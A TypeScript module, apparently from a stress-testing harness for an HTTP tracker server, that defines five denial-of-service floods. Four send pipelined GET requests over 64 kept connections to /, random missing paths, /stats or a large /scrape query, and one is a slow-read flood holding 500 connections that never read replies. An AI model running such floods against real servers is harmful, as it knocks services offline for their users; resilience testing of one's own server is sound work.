/** Floods over plain HTTP: pipelined requests on connections that are kept. */
import type { ServerAttack } from '../attack.ts'
import type { Flood } from './flood.ts'

const CONNECTIONS = 64
const PIPELINED = 50

const get = ({ host }: Flood, path: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`

function flooding(name: string, about: string, pathOf: (flood: Flood) => string): ServerAttack {
  return {
    name,
    about,
    target: 'server',
    flood: flood =>
      flood.many(CONNECTIONS, async () => {
        const socket = await flood.open()
        const one = () => get(flood, pathOf(flood))
        const chunk = Array.from({ length: PIPELINED }, one).join('')
        while (socket && (await flood.send(socket, chunk))) await flood.pause(0)
      }),
  }
}

const swarm = (flood: Flood): string => flood.newId().replace(/../g, '%$&')

export const REQUEST_ATTACKS: readonly ServerAttack[] = [
  flooding('http-pages', 'requests for the start page', () => '/'),
  flooding('http-missing', 'requests for pages that are not there', flood => `/${flood.newId()}`),
  flooding('http-stats', 'requests for /stats', () => '/stats'),
  flooding(
    'http-scrapes',
    'requests to /scrape for 64 swarms each',
    flood => `/scrape?${Array.from({ length: 64 }, () => `info_hash=${swarm(flood)}`).join('&')}`,
  ),
  {
    name: 'http-unread',
    about: 'requests for the start page by connections that read no answer',
    target: 'server',
    flood: flood =>
      flood.holding(500, async () => {
        const socket = await flood.open()
        socket?.pause()
        const chunk = get(flood, '/').repeat(PIPELINED)
        while (socket && (await flood.send(socket, chunk))) await flood.pause(100)
      }),
  },
]
